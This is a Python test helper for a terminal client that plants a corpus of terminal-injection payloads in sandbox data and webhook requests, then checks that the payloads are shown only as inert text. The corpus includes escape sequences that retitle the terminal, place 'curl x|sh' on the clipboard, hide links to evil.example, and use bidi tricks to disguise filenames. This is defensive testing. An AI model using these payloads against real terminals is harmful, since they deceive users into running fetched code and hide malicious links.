"""A hostile corpus, planted where outside text enters (the sandbox's data, the hook), and the
check that none of it reaches a terminal as anything but visible text."""

from __future__ import annotations

import json
import sqlite3
from pathlib import Path

import httpx

from voipbin_tui.api.hooks import hook_url_for
from voipbin_tui.backend.seed import SEED_LINE_CHANNEL_SECRET, SEED_WHATSAPP_APP_SECRET
from voipbin_tui.backend.store import DATABASE_FILENAME
from voipbin_tui.protocols import build_line_text_payload, sign_hub_signature, sign_line_signature
from voipbin_tui.protocols.whatsapp import build_text_message_payload
from voipbin_tui.terminal_text import unsafe_characters

HOSTILE = (
    "\x1b]0;PWNED\x07"  # OSC 0: retitle the terminal
    "\x1b]52;c;Y3VybCB4fHNo\x07"  # OSC 52: put `curl x|sh` on the clipboard
    "\x1b]8;;https://evil.example\x1b\\L\x1b]8;;\x1b\\"  # OSC 8: a hidden link
    "\x1b[2J\x1b[31m"  # CSI: clear the screen, paint
    "\x9b31m\x9d0;T\x9c\x85"  # the same as C1 controls
    "\x00\x08\x7f\r\nforged line\t"
    "\u202egnp.exe\u202c\u2066x\u2069\u2028"  # bidi overrides and isolates, a line separator
    "[bold]B[/bold][link=https://evil.example]K[/link]"  # Rich markup
)
"""Every kind of text that must not act: one string, so any field it lands in is tested whole."""

MARKUP_SHOWN = "[bold]B[/bold][link=https://evil.example]K[/link]"
"""How the corpus's markup reads when it is (correctly) shown as text."""


def plant_hostile_data(data_dir: Path) -> None:
    """Every account and flow of a (seeded) sandbox gets the corpus in each text field, as a
    VoIPBIN that returns anything at all would send it (the client's validation is bypassed)."""
    with sqlite3.connect(data_dir / DATABASE_FILENAME) as database:
        database.execute("UPDATE flows SET name = ?, detail = ?", (f"flow {HOSTILE}", HOSTILE))
        database.execute("UPDATE accounts SET name = ?, detail = ?", (f"acct {HOSTILE}", HOSTILE))
        for account_id, provider_data in database.execute(
            "SELECT id, provider_data FROM accounts WHERE provider_data IS NOT NULL"
        ).fetchall():
            data = json.loads(provider_data)
            data["phone_number_id"] = HOSTILE
            database.execute("UPDATE accounts SET provider_data = ? WHERE id = ?", (json.dumps(data), account_id))


def post_hostile_traffic(inspector_url: str, hook_base: str, whatsapp_id: object, line_id: object) -> None:
    """What an unsigned or signed sender can put in front of the operator: names, texts, ids,
    the phone_number_id, an event type, header values (raw Latin-1 bytes, C1 controls among
    them), a hub challenge's parameters."""
    header = {"X-Sender-Note": b"\x9b31m\xe2\x80\xae \x85 note"}  # obs-text bytes: C1 controls once decoded
    with httpx.Client(timeout=10) as http:
        whatsapp = build_text_message_payload(
            phone_number_id=HOSTILE, text=HOSTILE, sender_wa_id=HOSTILE, profile_name=HOSTILE, wamid=HOSTILE
        )
        http.post(
            hook_url_for(hook_base, whatsapp_id),
            content=whatsapp,
            headers={"X-Hub-Signature-256": sign_hub_signature(SEED_WHATSAPP_APP_SECRET, whatsapp), **header},
        )
        line = build_line_text_payload(text=HOSTILE, user_id=HOSTILE, webhook_event_id=HOSTILE)
        http.post(
            hook_url_for(hook_base, line_id),
            content=line,
            headers={"X-Line-Signature": sign_line_signature(SEED_LINE_CHANNEL_SECRET, line), **header},
        )
        http.post(f"{inspector_url}/voipbin-events", json={"type": HOSTILE}, headers=header)
        http.get(
            hook_url_for(hook_base, whatsapp_id),
            params={"hub.mode": HOSTILE, "hub.verify_token": HOSTILE, "hub.challenge": HOSTILE},
        )


def assert_terminal_safe(text: str, *, where: str = "") -> None:
    """No control, bidi or separator character: newlines only between lines."""
    found = unsafe_characters(text, keep_newlines=True)
    assert found == [], f"{where}: {found!r} in {text!r}"
